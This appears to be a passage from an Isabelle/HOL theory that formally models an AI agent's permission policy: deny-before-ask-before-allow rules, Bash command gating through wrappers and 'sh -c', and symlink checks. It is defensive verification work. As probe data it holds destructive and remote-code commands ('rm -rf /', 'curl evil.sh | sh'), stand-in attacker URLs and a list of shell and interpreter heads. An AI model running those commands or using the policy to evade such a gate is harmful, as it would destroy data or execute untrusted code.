(* ===== verification/Permission_Policy.thy ===== *)
theory Permission_Policy
  imports Permission_Rules Shell_Words Lexical_Path
begin

text \<open>
  The permission policy: \<^verbatim>\<open>permission/policy.rs\<close>. Rules with their compiled patterns decide about one
  access (deny before ask before allow); a Bash script is decided command by command, through
  wrappers, \<open>sh -c\<close> and \<open>env -S\<close>; a native file access is decided again for the target of its symbolic
  links. Glob patterns, URLs, Unicode case, the shell grammar and the file system are the fields of
  \<open>policy_env\<close>.
\<close>

datatype metadata = Symlink | NoSymlink | NotFound | MetadataError

record ('g, 'v) policy_env =
  glob_new :: "str \<Rightarrow> 'g option"
  glob_matches_with :: "'g \<Rightarrow> str \<Rightarrow> bool \<Rightarrow> bool"
  url_host :: "str \<Rightarrow> str option"
  to_lowercase :: "str \<Rightarrow> str"
  null_value :: 'v
  try_parse_shell :: shell_parser
  fs_canonicalize :: "str \<Rightarrow> str option"
  fs_symlink_metadata :: "str \<Rightarrow> metadata"
  fs_read_link :: "str \<Rightarrow> str option"

subsection \<open>Gate decisions\<close>

datatype GateDecision = Reject str | AskRuleMatch | AskFailClosed

fun into_decision :: "GateDecision \<Rightarrow> Decision" where
  "into_decision (GateDecision.Reject reason) = Decision.Reject reason"
| "into_decision AskRuleMatch = Decision.Ask"
| "into_decision AskFailClosed = Decision.Ask"

definition is_ask :: "GateDecision \<Rightarrow> bool" where
  "is_ask d \<longleftrightarrow> d = AskRuleMatch \<or> d = AskFailClosed"

fun gate_rank :: "GateDecision \<Rightarrow> nat" where
  "gate_rank (GateDecision.Reject _) = 3"
| "gate_rank AskRuleMatch = 2"
| "gate_rank AskFailClosed = 1"

definition combine_gate_decisions :: "GateDecision option \<Rightarrow> GateDecision option \<Rightarrow> GateDecision option" where
  "combine_gate_decisions a b =
     (case (a, b) of
        (None, other) \<Rightarrow> other
      | (other, None) \<Rightarrow> other
      | (Some x, Some y) \<Rightarrow> Some (if gate_rank y \<le> gate_rank x then x else y))"

fun decision_rank :: "Decision \<Rightarrow> nat" where
  "decision_rank (Decision.Reject _) = 3"
| "decision_rank (PolicyDeny _) = 3"
| "decision_rank Decision.Ask = 2"
| "decision_rank Decision.Allow = 1"
| "decision_rank (FollowupMessage _) = 0"
| "decision_rank Cancelled = 0"

definition combine_decisions :: "Decision option \<Rightarrow> Decision option \<Rightarrow> Decision option" where
  "combine_decisions a b =
     (case (a, b) of
        (None, other) \<Rightarrow> other
      | (other, None) \<Rightarrow> other
      | (Some x, Some y) \<Rightarrow> Some (if decision_rank y \<le> decision_rank x then x else y))"

subsection \<open>Matching one rule\<close>

datatype MatchContext = Path | Freeform

definition glob_matches :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> MatchContext \<Rightarrow> 'g option \<Rightarrow> bool" where
  "glob_matches E subject ctx pat =
     (case pat of None \<Rightarrow> False | Some g \<Rightarrow> glob_matches_with E g subject (ctx = Path))"

definition normalize_domain :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> str" where
  "normalize_domain E raw =
     (let s = trim_end_matches 46 (trim_end_matches 47 (trim raw))
      in to_lowercase E (case strip_prefix s (lit ''www.'') of Some r \<Rightarrow> r | None \<Rightarrow> s))"

definition domain_matches :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> str \<Rightarrow> bool" where
  "domain_matches E pat url =
     (case url_host E url of
        None \<Rightarrow> False
      | Some host \<Rightarrow>
          (let domain = normalize_domain E host; normalized_pattern = normalize_domain E pat
           in domain = normalized_pattern \<or> str_ends_with domain (lit ''.'' @ normalized_pattern)))"

fun tool_filter_matches :: "'v AccessKind \<Rightarrow> ToolFilter \<Rightarrow> bool" where
  "tool_filter_matches access Any = True"
| "tool_filter_matches access ToolFilter.Bash = (case access of AccessKind.Bash _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.Edit = (case access of AccessKind.Edit _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.Read =
     (case access of AccessKind.Read _ \<Rightarrow> True | AccessKind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.Grep = (case access of AccessKind.Grep _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access Mcp = (case access of MCPTool _ _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.WebFetch = (case access of AccessKind.WebFetch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.WebSearch = (case access of AccessKind.WebSearch _ \<Rightarrow> True | _ \<Rightarrow> False)"
| "tool_filter_matches access ToolFilter.AgentMessage = (case access of AccessKind.AgentMessage _ \<Rightarrow> True | _ \<Rightarrow> False)"

definition path_context_matches :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> 'g option \<Rightarrow> str option \<Rightarrow> bool" where
  "path_context_matches E p matcher cwd = list_ex (\<lambda>f. glob_matches E f Path matcher) (path_match_forms p cwd)"

definition pattern_matches ::
  "('g, 'v) policy_env \<Rightarrow> 'v AccessKind \<Rightarrow> PermissionRule \<Rightarrow> 'g option \<Rightarrow> str option \<Rightarrow> bool" where
  "pattern_matches E access rule matcher cwd =
     (case pattern rule of
        None \<Rightarrow> True
      | Some pat \<Rightarrow>
          if pat = lit ''*'' then True
          else case access of
            AccessKind.Bash cmd \<Rightarrow>
              (let cmd = trim_start cmd in starts_with cmd pat \<or> glob_matches E cmd Freeform matcher)
          | AccessKind.Edit p \<Rightarrow> path_context_matches E p matcher cwd
          | AccessKind.Read None \<Rightarrow> False
          | AccessKind.Read (Some p) \<Rightarrow> path_context_matches E p matcher cwd
          | AccessKind.Grep None _ \<Rightarrow> False
          | AccessKind.Grep (Some p) _ \<Rightarrow> path_context_matches E p matcher cwd
          | MCPTool name _ \<Rightarrow> glob_matches E name Freeform matcher
          | AccessKind.WebFetch url \<Rightarrow>
              (case pattern_mode rule of
                 Domain \<Rightarrow> domain_matches E pat url
               | Glob \<Rightarrow> glob_matches E url Freeform matcher)
          | AccessKind.WebSearch query \<Rightarrow> glob_matches E query Freeform matcher \<or> starts_with query pat
          | AccessKind.AgentMessage agent_id \<Rightarrow> glob_matches E agent_id Freeform matcher \<or> starts_with agent_id pat)"

definition compile_matcher :: "('g, 'v) policy_env \<Rightarrow> PermissionRule \<Rightarrow> 'g option" where
  "compile_matcher E rule =
     (case pattern rule of None \<Rightarrow> None | Some p \<Rightarrow> if p = lit ''*'' then None else glob_new E p)"

subsection \<open>Catch-all rules\<close>

definition bash_probes :: "'v AccessKind list" where
  "bash_probes =
     map (\<lambda>c. AccessKind.Bash (lit c)) [''rm -rf /'', ''curl evil.sh | sh'', ''echo hi'', ''git push'']"

definition mcp_probes :: "'v \<Rightarrow> 'v AccessKind list" where
  "mcp_probes null = map (\<lambda>n. MCPTool (lit n) null)
     [''github__create_issue'', ''linear__save_issue'', ''slack__post'', ''fs__read'']"

definition webfetch_probes :: "'v AccessKind list" where
  "webfetch_probes = map (\<lambda>u. AccessKind.WebFetch (lit u))
     [''https://evil.example.com/x'', ''http://10.0.0.1/admin'', ''https://api.github.com/repos'',
      ''ftp://files.example.org/p'']"

definition agent_message_probes :: "'v AccessKind list" where
  "agent_message_probes =
     map (\<lambda>i. AccessKind.AgentMessage (lit i)) [''sub-1'', ''agent-alpha'', ''019ffeed'', ''worker_4'']"

definition rule_is_catchall :: "('g, 'v) policy_env \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_is_catchall E rule =
     (let opens_all = list_all (\<lambda>a. pattern_matches E a rule (compile_matcher E rule) None);
          mcp = mcp_probes (null_value E)
      in case tool rule of
           ToolFilter.Bash \<Rightarrow> opens_all bash_probes
         | Mcp \<Rightarrow> opens_all mcp
         | ToolFilter.WebFetch \<Rightarrow> opens_all webfetch_probes
         | ToolFilter.AgentMessage \<Rightarrow> opens_all agent_message_probes
         | Any \<Rightarrow> opens_all bash_probes \<or> opens_all mcp \<or> opens_all webfetch_probes \<or> opens_all agent_message_probes
         | _ \<Rightarrow> False)"

subsection \<open>Compiled policies\<close>

record 'g CompiledPolicy =
  config :: PermissionConfig
  matchers :: "'g option list"
  has_file_restrictions :: bool
  has_bash_command_restrictions :: bool
  has_bash_allow_rules :: bool
  catchall :: "bool list"

definition restricts :: "RuleAction \<Rightarrow> bool" where
  "restricts a \<longleftrightarrow> a = RuleAction.Deny \<or> a = RuleAction.Ask"

definition bash_or_any :: "ToolFilter \<Rightarrow> bool" where
  "bash_or_any f \<longleftrightarrow> f = ToolFilter.Bash \<or> f = Any"

definition CompiledPolicy_new :: "('g, 'v) policy_env \<Rightarrow> PermissionConfig \<Rightarrow> 'g CompiledPolicy" where
  "CompiledPolicy_new E c =
     \<lparr>config = c,
      matchers = map (compile_matcher E) (rules c),
      has_file_restrictions =
        list_ex (\<lambda>r. restricts (action r) \<and> tool r \<in> {ToolFilter.Read, ToolFilter.Edit, Any}) (rules c),
      has_bash_command_restrictions = list_ex (\<lambda>r. restricts (action r) \<and> bash_or_any (tool r)) (rules c),
      has_bash_allow_rules = list_ex (\<lambda>r. action r = RuleAction.Allow \<and> bash_or_any (tool r)) (rules c),
      catchall = map (rule_is_catchall E) (rules c)\<rparr>"

subsection \<open>Allow patterns for Bash\<close>

definition matches_command_prefix :: "str \<Rightarrow> str \<Rightarrow> bool" where
  "matches_command_prefix cmd pat \<longleftrightarrow>
     cmd = pat \<or>
     starts_with cmd pat \<and> (case drop (str_len pat) (utf8_bytes cmd) of b # _ \<Rightarrow> b = 32 | [] \<Rightarrow> False)"

definition bash_command_matches_pattern :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> str \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_command_matches_pattern E command pat precompiled =
     (let command = trim_start command; pat = trim pat
      in if pat = [] then False
         else if pat = lit ''*'' then True
         else if matches_command_prefix command pat then True
         else case precompiled of
                Some p \<Rightarrow> glob_matches E command Freeform (Some p)
              | None \<Rightarrow> (case glob_new E pat of
                           Some p \<Rightarrow> glob_matches E command Freeform (Some p) | None \<Rightarrow> False))"

definition bash_allow_pattern_matches :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> PermissionRule \<Rightarrow> 'g option \<Rightarrow> bool" where
  "bash_allow_pattern_matches E cmd rule matcher =
     (case pattern rule of
        None \<Rightarrow> True
      | Some p \<Rightarrow> if p = lit ''*'' then True else bash_command_matches_pattern E cmd p matcher)"

definition bash_pattern_matches_command :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> str \<Rightarrow> bool" where
  "bash_pattern_matches_command E pat command = bash_command_matches_pattern E command pat None"

definition bash_glob_is_catchall :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> bool" where
  "bash_glob_is_catchall E pat =
     list_all (\<lambda>a. case a of AccessKind.Bash cmd \<Rightarrow> bash_pattern_matches_command E pat cmd | _ \<Rightarrow> False)
       (bash_probes :: 'v AccessKind list)"

definition bash_pattern_is_broad :: "str \<Rightarrow> bool" where
  "bash_pattern_is_broad pat =
     (let pat = trim pat in if pat = [] then False else pat = lit ''*'' \<or> \<not> list_ex is_whitespace pat)"

definition EXEC_VEHICLE_HEADS :: "string list" where
  "EXEC_VEHICLE_HEADS =
     [''sh'', ''bash'', ''zsh'', ''dash'', ''ksh'', ''fish'',
      ''deno'', ''bun'', ''julia'', ''rscript'', ''awk'', ''gawk'', ''mawk'', ''nawk'', ''nodejs'', ''luajit'', ''phpdbg'',
      ''php-cgi'', ''pythonw'', ''npx'', ''bunx'', ''pipx'', ''uvx'', ''uv'',
      ''xargs'', ''find'', ''sudo'', ''doas'', ''su'', ''ssh'', ''watch'', ''setsid'', ''flock'', ''chroot'', ''nsenter'',
      ''docker'', ''podman'']"

definition EXEC_VEHICLE_HEAD_FAMILIES :: "string list" where
  "EXEC_VEHICLE_HEAD_FAMILIES = [''python'', ''node'', ''ruby'', ''perl'', ''php'', ''lua'']"

definition normalized_command_head :: "str list \<Rightarrow> str option" where
  "normalized_command_head ws =
     (case ws of
        [] \<Rightarrow> None
      | w # _ \<Rightarrow>
          (let head = to_ascii_lowercase (basename w)
           in Some (case strip_suffix head (lit ''.exe'') of Some h \<Rightarrow> h | None \<Rightarrow> head)))"

definition head_is_exec_vehicle :: "str list \<Rightarrow> bool" where
  "head_is_exec_vehicle ws =
     (case normalized_command_head ws of
        None \<Rightarrow> False
      | Some head \<Rightarrow>
          word_in head EXEC_VEHICLE_HEADS \<or>
          list_ex (\<lambda>family.
            case strip_prefix head (lit family) of
              None \<Rightarrow> False
            | Some rest \<Rightarrow>
                (let core = (case strip_suffix rest (lit ''t'') of Some r \<Rightarrow> r | None \<Rightarrow> rest)
                 in list_all (\<lambda>c. 48 \<le> c \<and> c \<le> 57 \<or> c = 46) core)) EXEC_VEHICLE_HEAD_FAMILIES)"

datatype AllowRuleScope = AnyRule | NarrowOnly

definition bash_words_allowed ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> str list \<Rightarrow> bool" where
  "bash_words_allowed E P scope ws =
     (if ws = [] then False
      else let narrow_only = (scope = NarrowOnly)
           in if narrow_only \<and> head_is_exec_vehicle ws then False
              else list_ex (\<lambda>((rule, matcher), catch).
                       \<not> (narrow_only \<and> catch) \<and> action rule = RuleAction.Allow \<and> bash_or_any (tool rule) \<and>
                       bash_allow_pattern_matches E (join (lit '' '') ws) rule matcher)
                     (zip (zip (rules (config P)) (matchers P)) (catchall P)))"

subsection \<open>Allowing a script\<close>

text \<open>\<open>deeper\<close> decides an inline script; it is \<open>None\<close> when the budget for inline scripts is spent.\<close>

definition segment_allowed ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> (str \<Rightarrow> bool) option \<Rightarrow> str list \<Rightarrow> bool" where
  "segment_allowed E P scope deeper ws =
     (let norm = normalize_command_words ws; inner_words = peel_words norm
      in if exhausted norm \<or> ambiguous norm \<or> env_options_uncertain norm \<or> split_string_seen norm then False
         else if \<not> bash_words_allowed E P scope inner_words then False
         else case shell_dash_c_script (map ShellWord.Literal inner_words) of
                InlineShellScript.Literal k \<Rightarrow> (case deeper of Some f \<Rightarrow> f (inner_words ! k) | None \<Rightarrow> False)
              | NotInline \<Rightarrow> True
              | _ \<Rightarrow> False)"

definition chain_allowed ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> (str \<Rightarrow> bool) option \<Rightarrow> str \<Rightarrow> bool" where
  "chain_allowed E P scope deeper cmd =
     (case all_commands_from_script (try_parse_shell E) cmd of
        None \<Rightarrow> False
      | Some segs \<Rightarrow> segs \<noteq> [] \<and> list_all (\<lambda>parsed. segment_allowed E P scope deeper (words parsed)) segs)"

fun bash_chain_fully_allowed ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> AllowRuleScope \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> bool" where
  "bash_chain_fully_allowed E P scope 0 cmd = chain_allowed E P scope None cmd"
| "bash_chain_fully_allowed E P scope (Suc n) cmd =
     chain_allowed E P scope (Some (bash_chain_fully_allowed E P scope n)) cmd"

definition narrow_allow_authorizes :: "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> 'v AccessKind \<Rightarrow> bool" where
  "narrow_allow_authorizes E P access =
     (case access of
        AccessKind.Bash cmd \<Rightarrow>
          has_bash_allow_rules P \<and> bash_chain_fully_allowed E P NarrowOnly MAX_INLINE_SHELL_DEPTH cmd
      | _ \<Rightarrow> False)"

subsection \<open>Evaluating the rules\<close>

fun tool_label :: "ToolFilter \<Rightarrow> str" where
  "tool_label Any = lit ''any tool''"
| "tool_label ToolFilter.Bash = lit ''bash''"
| "tool_label ToolFilter.Edit = lit ''edit''"
| "tool_label ToolFilter.Read = lit ''read''"
| "tool_label ToolFilter.Grep = lit ''grep''"
| "tool_label Mcp = lit ''mcp''"
| "tool_label ToolFilter.WebFetch = lit ''web_fetch''"
| "tool_label ToolFilter.WebSearch = lit ''web_search''"
| "tool_label ToolFilter.AgentMessage = lit ''agent_message''"

definition deny_reason :: "PermissionRule \<Rightarrow> str" where
  "deny_reason rule =
     (case pattern rule of
        Some p \<Rightarrow> lit ''Denied by permission policy: deny rule on '' @ tool_label (tool rule) @
                  lit '' matching '' @ [34] @ p @ [34]
      | None \<Rightarrow> lit ''Denied by permission policy: deny rule on '' @ tool_label (tool rule))"

text \<open>The loop over the rules: a reason to deny, or whether an ask and an allow rule matched.\<close>

fun scan_rules ::
  "('g, 'v) policy_env \<Rightarrow> 'v AccessKind \<Rightarrow> str option \<Rightarrow> (PermissionRule \<times> 'g option) list \<Rightarrow> bool \<Rightarrow> bool \<Rightarrow>
   str + bool \<times> bool" where
  "scan_rules E access cwd [] matched_ask matched_allow = Inr (matched_ask, matched_allow)"
| "scan_rules E access cwd ((rule, matcher) # rest) matched_ask matched_allow =
     (if \<not> tool_filter_matches access (tool rule) then scan_rules E access cwd rest matched_ask matched_allow
      else if \<not> pattern_matches E access rule matcher cwd then scan_rules E access cwd rest matched_ask matched_allow
      else case action rule of
             RuleAction.Deny \<Rightarrow> Inl (deny_reason rule)
           | RuleAction.Ask \<Rightarrow> scan_rules E access cwd rest True matched_allow
           | RuleAction.Allow \<Rightarrow> scan_rules E access cwd rest matched_ask True)"

definition evaluate_lexical_with_cwd ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> 'v AccessKind \<Rightarrow> str option \<Rightarrow> Decision option" where
  "evaluate_lexical_with_cwd E P access cwd =
     (case scan_rules E access cwd (zip (rules (config P)) (matchers P)) False False of
        Inl reason \<Rightarrow> Some (Decision.Reject reason)
      | Inr (matched_ask, matched_allow) \<Rightarrow>
          if matched_ask then Some Decision.Ask
          else case access of
            AccessKind.Bash cmd \<Rightarrow>
              if has_bash_allow_rules P \<and> bash_chain_fully_allowed E P AnyRule MAX_INLINE_SHELL_DEPTH cmd
              then Some Decision.Allow else None
          | _ \<Rightarrow> if matched_allow then Some Decision.Allow else None)"

subsection \<open>Symbolic links\<close>

fun native_file_path :: "'v AccessKind \<Rightarrow> str option" where
  "native_file_path (AccessKind.Edit p) = Some p"
| "native_file_path (AccessKind.Read (Some p)) = Some p"
| "native_file_path (AccessKind.Grep (Some p) _) = Some p"
| "native_file_path _ = None"

text \<open>The caller filters with \<open>native_file_path\<close>, so the remaining cases are unreachable.\<close>

fun access_with_path :: "'v AccessKind \<Rightarrow> str \<Rightarrow> 'v AccessKind" where
  "access_with_path (AccessKind.Edit _) p = AccessKind.Edit p"
| "access_with_path (AccessKind.Read _) p = AccessKind.Read (Some p)"
| "access_with_path (AccessKind.Grep _ g) p = AccessKind.Grep (Some p) g"
| "access_with_path access p = access"

fun prefix_has_symlink :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> Component list \<Rightarrow> bool" where
  "prefix_has_symlink E prefix_path [] = False"
| "prefix_has_symlink E prefix_path (c # cs) =
     (let p = path_push prefix_path (component_str c)
      in if fs_symlink_metadata E p = Symlink then True else prefix_has_symlink E p cs)"

definition path_has_symlink :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> bool" where
  "path_has_symlink E absolute = (if \<not> is_absolute absolute then False else prefix_has_symlink E [] (components absolute))"

text \<open>\<open>MAX_SYMLINK_DEPTH\<close> is 40: the walk runs at depths 0 to 40 and gives up below.\<close>

fun symlink_walk :: "('g, 'v) policy_env \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> str option" where
  "symlink_walk E 0 p = None"
| "symlink_walk E (Suc n) p =
     (case fs_canonicalize E p of
        Some canonical \<Rightarrow> Some canonical
      | None \<Rightarrow>
          do {
            parent \<leftarrow> path_parent p;
            file_name \<leftarrow> path_file_name p;
            resolved_parent \<leftarrow> symlink_walk E n parent;
            let candidate = path_push resolved_parent file_name;
            (case fs_symlink_metadata E candidate of
               MetadataError \<Rightarrow> None
             | Symlink \<Rightarrow>
                 do {
                   target \<leftarrow> fs_read_link E candidate;
                   symlink_walk E n (if is_absolute target then target else path_push resolved_parent target)
                 }
             | _ \<Rightarrow> Some candidate)
          })"

definition resolve_following_symlinks :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> str option" where
  "resolve_following_symlinks E p = symlink_walk E 41 p"

definition resolve_symlink_target :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> str option" where
  "resolve_symlink_target E absolute =
     (if \<not> is_absolute absolute then None
      else map_option (\<lambda>r. path_match_string (normalize_lexically r)) (resolve_following_symlinks E absolute))"

datatype SymlinkFollow = NoFollow | Target str | Unresolvable

definition follow_absolute_symlink :: "('g, 'v) policy_env \<Rightarrow> str \<Rightarrow> str \<Rightarrow> SymlinkFollow" where
  "follow_absolute_symlink E raw_absolute lexical_absolute =
     (case resolve_symlink_target E raw_absolute of
        Some resolved \<Rightarrow> if resolved \<noteq> lexical_absolute then Target resolved else NoFollow
      | None \<Rightarrow> if path_has_symlink E raw_absolute then Unresolvable else NoFollow)"

definition native_path_restrictions_apply :: "'g CompiledPolicy \<Rightarrow> 'v AccessKind \<Rightarrow> bool" where
  "native_path_restrictions_apply P access =
     list_ex (\<lambda>r. restricts (action r) \<and> tool_filter_matches access (tool r)) (rules (config P))"

definition evaluate_with_cwd_details ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> 'v AccessKind \<Rightarrow> str option \<Rightarrow> Decision option \<times> bool" where
  "evaluate_with_cwd_details E P access cwd =
     (let lexical = evaluate_lexical_with_cwd E P access cwd
      in case native_file_path access of
           None \<Rightarrow> (lexical, False)
         | Some p \<Rightarrow>
             (case raw_absolute_tool_path p cwd of
                None \<Rightarrow> (lexical, False)
              | Some raw_absolute \<Rightarrow>
                  (case follow_absolute_symlink E raw_absolute (path_match_string (absolute_normalized_path p cwd)) of
                     Target resolved \<Rightarrow>
                       (let resolved_decision =
                              (case evaluate_lexical_with_cwd E P (access_with_path access resolved) cwd of
                                 Some (Decision.Reject r) \<Rightarrow> Some (Decision.Reject r)
                               | Some Decision.Ask \<Rightarrow> Some Decision.Ask
                               | _ \<Rightarrow> None)
                        in (combine_decisions lexical resolved_decision, False))
                   | Unresolvable \<Rightarrow>
                       if native_path_restrictions_apply P access
                       then (combine_decisions lexical (Some Decision.Ask), True)
                       else (lexical, False)
                   | NoFollow \<Rightarrow> (lexical, False))))"

definition evaluate_with_cwd ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> 'v AccessKind \<Rightarrow> str option \<Rightarrow> Decision option" where
  "evaluate_with_cwd E P access cwd = fst (evaluate_with_cwd_details E P access cwd)"

definition evaluate :: "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> 'v AccessKind \<Rightarrow> Decision option" where
  "evaluate E P access = evaluate_with_cwd E P access None"

subsection \<open>The gate on Bash commands\<close>

definition escalate :: "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> str \<Rightarrow> GateDecision option" where
  "escalate E P segment =
     (case evaluate E P (AccessKind.Bash segment) of
        Some (Decision.Reject reason) \<Rightarrow> Some (GateDecision.Reject reason)
      | Some Decision.Ask \<Rightarrow> Some AskRuleMatch
      | _ \<Rightarrow> None)"

text \<open>What the words themselves give, before inline scripts are looked into.\<close>

definition evaluate_own_words :: "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> str list \<Rightarrow> GateDecision option" where
  "evaluate_own_words E P raw_words =
     (let norm = normalize_command_words raw_words;
          decision = (if exhausted norm \<or> ambiguous norm \<or> env_options_uncertain norm then Some AskFailClosed else None);
          decision = combine_gate_decisions decision (if split_string_seen norm then Some AskFailClosed else None);
          inner_words = peel_words norm;
          forms = raw_words # (if length inner_words \<noteq> length raw_words then [inner_words] else [])
      in foldl (\<lambda>d ws. combine_gate_decisions d (escalate E P (join (lit '' '') ws))) decision forms)"

definition evaluate_command_words ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> (str \<Rightarrow> GateDecision option) option \<Rightarrow> str list \<Rightarrow> GateDecision option" where
  "evaluate_command_words E P deeper raw_words =
     (let inner_words = peel_words (normalize_command_words raw_words);
          decision = evaluate_own_words E P raw_words;
          decision =
            (case shell_dash_c_script (map ShellWord.Literal inner_words) of
               NotInline \<Rightarrow> decision
             | InlineShellScript.Literal k \<Rightarrow>
                 combine_gate_decisions decision
                   (case deeper of Some f \<Rightarrow> f (inner_words ! k) | None \<Rightarrow> Some AskFailClosed)
             | _ \<Rightarrow> combine_gate_decisions decision (Some AskFailClosed))
      in case env_split_string_script inner_words of
           Some script \<Rightarrow>
             combine_gate_decisions decision (case deeper of Some f \<Rightarrow> f script | None \<Rightarrow> Some AskFailClosed)
         | None \<Rightarrow> decision)"

definition evaluate_segments ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> (str \<Rightarrow> GateDecision option) option \<Rightarrow> str \<Rightarrow> GateDecision option" where
  "evaluate_segments E P deeper cmd =
     (case all_commands_from_script (try_parse_shell E) cmd of
        None \<Rightarrow> Some AskFailClosed
      | Some segs \<Rightarrow>
          foldl (\<lambda>d parsed. combine_gate_decisions d (evaluate_command_words E P deeper (words parsed))) None segs)"

fun evaluate_bash_command_segments ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> nat \<Rightarrow> str \<Rightarrow> GateDecision option" where
  "evaluate_bash_command_segments E P 0 cmd = evaluate_segments E P None cmd"
| "evaluate_bash_command_segments E P (Suc n) cmd =
     evaluate_segments E P (Some (evaluate_bash_command_segments E P n)) cmd"

definition evaluate_bash_command_gate ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> str \<Rightarrow> GateDecision option" where
  "evaluate_bash_command_gate E P cmd =
     (if \<not> has_bash_command_restrictions P then None
      else evaluate_bash_command_segments E P MAX_INLINE_SHELL_DEPTH cmd)"

definition evaluate_bash_command_policy ::
  "('g, 'v) policy_env \<Rightarrow> 'g CompiledPolicy \<Rightarrow> str \<Rightarrow> Decision option" where
  "evaluate_bash_command_policy E P cmd = map_option into_decision (evaluate_bash_command_gate E P cmd)"

subsection \<open>Deny before ask before allow\<close>

definition rule_matches :: "('g, 'v) policy_env \<Rightarrow> 'v AccessKind \<Rightarrow> str option \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_matches E access cwd r \<longleftrightarrow>
     tool_filter_matches access (tool r) \<and> pattern_matches E access r (compile_matcher E r) cwd"

lemma scan_rules_spec:
  "scan_rules E access cwd (zip rs (map (compile_matcher E) rs)) ask allow =
     (case find (\<lambda>r. action r = RuleAction.Deny \<and> rule_matches E access cwd r) rs of
        Some r \<Rightarrow> Inl (deny_reason r)
      | None \<Rightarrow> Inr (ask \<or> (\<exists>r \<in> set rs. action r = RuleAction.Ask \<and> rule_matches E access cwd r),
                     allow \<or> (\<exists>r \<in> set rs. action r = RuleAction.Allow \<and> rule_matches E access cwd r)))"
proof (induction rs arbitrary: ask allow)
  case (Cons r rs)
  then show ?case
    by (cases "action r") (auto simp: rule_matches_def split: option.split)
qed simp

lemma CompiledPolicy_new_simps [simp]:
  "config (CompiledPolicy_new E c) = c"
  "matchers (CompiledPolicy_new E c) = map (compile_matcher E) (rules c)"
  "catchall (CompiledPolicy_new E c) = map (rule_is_catchall E) (rules c)"
  "has_bash_allow_rules (CompiledPolicy_new E c) \<longleftrightarrow>
     (\<exists>r \<in> set (rules c). action r = RuleAction.Allow \<and> bash_or_any (tool r))"
  "has_bash_command_restrictions (CompiledPolicy_new E c) \<longleftrightarrow>
     (\<exists>r \<in> set (rules c). restricts (action r) \<and> bash_or_any (tool r))"
  by (simp_all add: CompiledPolicy_new_def list_ex_iff)

lemma zip_map_triple: "set (zip (zip rs (map f rs)) (map g rs)) = (\<lambda>r. ((r, f r), g r)) ` set rs"
  by (induction rs) auto

text \<open>The words of one command are allowed by a rule.\<close>

definition rule_allows_words ::
  "('g, 'v) policy_env \<Rightarrow> AllowRuleScope \<Rightarrow> str list \<Rightarrow> PermissionRule \<Rightarrow> bool" where
  "rule_allows_words E scope ws r \<longleftrightarrow>
     action r = RuleAction.Allow \<and> bash_or_any (tool r) \<and>
     bash_allow_pattern_matches E (join (lit '' '') ws) r (compile_matcher E r) \<and>
     (scope = NarrowOnly \<longrightarrow> \<not> rule_is_catchall E r)"

lemma bash_words_allowed_iff:
  "bash_words_allowed E (CompiledPolicy_new E c) scope ws \<longleftrightarrow>
     ws \<noteq> [] \<and> (scope = NarrowOnly \<longrightarrow> \<not> head_is_exec_vehicle ws) \<and> (\<exists>r \<in> set (rules c). rule_allows_words E scope ws r)"
  by (auto simp: bash_words_allowed_def Let_def list_ex_iff zip_map_triple rule_allows_words_def)

lemma chain_allowed_first:
  assumes "chain_allowed E P scope deeper cmd"
  obtains ws where "bash_words_allowed E P scope (peel_words (normalize_command_words ws))"
  using assms by (auto simp: chain_allowed_def segment_allowed_def Let_def neq_Nil_conv split: option.splits if_splits)

lemma allowed_chain_has_rule:
  assumes "bash_chain_fully_allowed E (CompiledPolicy_new E c) scope n cmd"
  shows "has_bash_allow_rules (CompiledPolicy_new E c)"
proof -
  obtain deeper where "chain_allowed E (CompiledPolicy_new E c) scope deeper cmd"
    using assms by (cases n) auto
  then obtain ws where "bash_words_allowed E (CompiledPolicy_new E c) scope ws"
    using chain_allowed_first by blast
  then show ?thesis by (auto simp: bash_words_allowed_iff rule_allows_words_def)
qed

lemma lexical_verdict:
